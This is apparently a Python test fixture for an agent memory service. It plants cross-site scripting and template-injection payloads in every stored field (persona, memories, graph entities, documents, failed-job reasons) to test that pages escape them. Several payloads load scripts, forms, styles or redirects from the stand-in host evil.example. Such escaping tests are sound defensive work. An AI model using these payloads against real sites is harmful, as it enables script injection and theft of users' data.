"""Contents that try to be more than text wherever a page shows them, in every field that a memory has."""

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Final

from agentmem.assets.document_record import new_record
from agentmem.domain.change import Change
from agentmem.domain.entity import graph_lane, named
from agentmem.domain.event import AssetReceived, Person
from agentmem.domain.memory import Evidence, MemoryNode, MemoryType, microseconds
from agentmem.domain.persona import Persona
from agentmem.domain.scope import Lane, Scope
from agentmem.ports.ledger import Commit
from agentmem.ports.work_queue import NewJob
from agentmem.runtime.facade.app import App
from tests.support.hostile import EXOTIC, KNOWN, NEAR_MISSES
from tests.support.nodes import NOON, a_memory

ANSWERS: Final = Path(__file__).parents[1] / "fixtures" / "hostile_answers" / "answers.jsonl"
SAMPLE: Final = 12

HOSTILE_AGENT: Final = "hostile"
RUNS: Final = "<script>window.hostile=1</script>"
HOSTILE: Final = (
    RUNS,
    "\"><img src=x onerror='window.hostile=1'>",
    "'><svg/onload=window.hostile=1>",
    "</textarea></title></script><script src=//evil.example/x.js></script>",
    "{{ 7*7 }}{% for x in y %}${7*7}",
    "javascript:window.hostile=1",
    "<a href='javascript:window.hostile=1'>x</a><base href=//evil.example>",
    "<form action=//evil.example><input name=csrf><button>go</button></form>",
    "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "\u202eabc\u2066def\u200b\x1b[31m\x9b",
    "&lt;script&gt; &#60;script&#62; %3Cscript%3E \\u003cscript\\u003e",
    "<!--<script>--><![CDATA[<script>]]>",
    "罗小东" * 300 + RUNS,
)
"""Each is a whole attack by itself."""


def corpus(*, whole: bool) -> tuple[str, ...]:
    """What is tried on the pages: `HOSTILE`, and of all other texts that attacks are made of some, or each, as
    something that would run if it came to stand where it must not."""
    answers = [json.loads(line)["answers"] for line in ANSWERS.read_text(encoding="utf-8").splitlines()]
    told = [str(part["text"]) for each in answers for part in each if "text" in part]
    texts = [_storable(text) for text in (*KNOWN.values(), *EXOTIC, *NEAR_MISSES, *told)]
    kept = texts if whole else texts[:: len(texts) // SAMPLE]
    return (*HOSTILE, *(f"{text[:400]}{HOSTILE[number % 4]}" for number, text in enumerate(kept)))


def _storable(text: str) -> str:
    """Without what every entrance refuses: NUL, and halves of characters."""
    return text.replace("\0", "").encode(errors="ignore").decode()


async def plant_hostile(app: App, texts: Sequence[str] = HOSTILE, agent: str = HOSTILE_AGENT) -> None:
    """An agent whose persona and memories, graph, documents and given up work are made of nothing else."""
    line, tenant = RUNS, app.tenant
    some = tuple(texts[:6])
    await app.know_agent(
        Persona(id=agent, name=line, role="\n".join(texts[6 : len(HOSTILE)]), goals=some, boundaries=some, style=RUNS)
    )
    told = [node for number, text in enumerate(texts) for node in _told(tenant, agent, number, text)]
    nodes = list({node.memory_id: node for node in told}.values())  # some texts begin alike, and name one entity
    changes = tuple(Change(act="add", after=node, reason=RUNS) for node in nodes)
    await app.journal.ledger.commit(Commit(tenant, f"run {RUNS}", f"by {RUNS}", NOON, changes))
    later = tuple(
        Change(
            act="refresh", before=node, after=node.revised(content=f"{node.content} {RUNS}", revision=2), reason=RUNS
        )
        for node in nodes
        if node.memory_type is MemoryType.OBSERVATION
    )
    await app.journal.ledger.commit(Commit(tenant, f"later {RUNS}", f"by {RUNS}", NOON, later))
    seen = tuple(
        Change(act="reflect", before=change.after, after=change.after.revised(obs_reflected=1, revision=3), reason=RUNS)
        for change in later
        if change.after is not None
    )
    await app.journal.ledger.commit(Commit(tenant, "seen<b>", "reflection", NOON, seen))
    await _give_up(app, agent, texts)
    await app.searchable.projector.catch_up()


async def _give_up(app: App, agent: str, reasons: Sequence[str]) -> None:
    """Work that failed for these reasons."""
    queue = app.journal.queue
    lanes = [Lane(app.tenant, agent, named(app.tenant, agent, _name(reason))) for reason in reasons]
    await queue.enqueue([NewJob(f"{agent}/{n}", lane, "hostile", n) for n, lane in enumerate(lanes)])
    left = list(reasons)
    while claim := await queue.claim({"hostile": 1}, scope=Scope(app.tenant, agent)):
        await queue.fail(claim, claim.jobs[0].job_id, reason=left.pop(), retry_in=None)


def _name(text: str) -> str:
    return "".join(letter for letter in text[:150] if letter.isprintable()).strip() or "x"


def _told(tenant: str, agent: str, number: int, text: str) -> list[MemoryNode]:
    """A turn and what was made of it, about a person who is called so; the entity of that name, the community around
    it, and a document."""
    name, lane = _name(text), graph_lane(tenant, agent).target
    person = named(tenant, agent, name)
    shared: dict[str, object] = {
        "tenant": tenant,
        "agent_id": agent,
        "target_id": person,
        "target_name": Person(name=name).name,
        "user_name": name,
        "run_id": name,
        "speaker": text,
        "meta_data": {"turnIndex": number, text: text},
    }
    turn = a_memory(text, memory_type=MemoryType.CONVERSATION, kind="turn", **shared)
    made = a_memory(
        text,
        **{**shared, "attribute": text[:100], "value": text, "key": (text,), "kind": text, "relation": "RUNS"},
        entity_ids=(person, named(tenant, agent, _name(RUNS))),
        source_ids=(turn.memory_id,),
        evidence=(Evidence(memory_id=turn.memory_id, start=0, end=min(len(text), 9)),),
    )
    graph: dict[str, object] = {
        **shared,
        "target_id": lane,
        "target_name": name,
        "value": name,
        "key": (name, text),
    }
    entity = a_memory(text, memory_id=person, memory_type=MemoryType.ENTITY, **{**graph, "kind": text[:60]})
    community = a_memory(f"{text}\n{text}", memory_type=MemoryType.COMMUNITY, **graph, entity_ids=(person,))
    asset = AssetReceived(
        event_id=f"file/{number}",
        tenant=tenant,
        agent_id=agent,
        agent_name=_name(RUNS),
        target_id=named(tenant, agent, RUNS),
        at=NOON,
        asset_id=f"upload/{name}",
        version=f"{number:064x}",
        title=name,
        source=text[:4_000],
        media_type="text/markdown",
        text=text,
    )
    return [turn, made, entity, community, new_record(asset, [made.memory_id], [], NOON, microseconds(NOON) + number)]
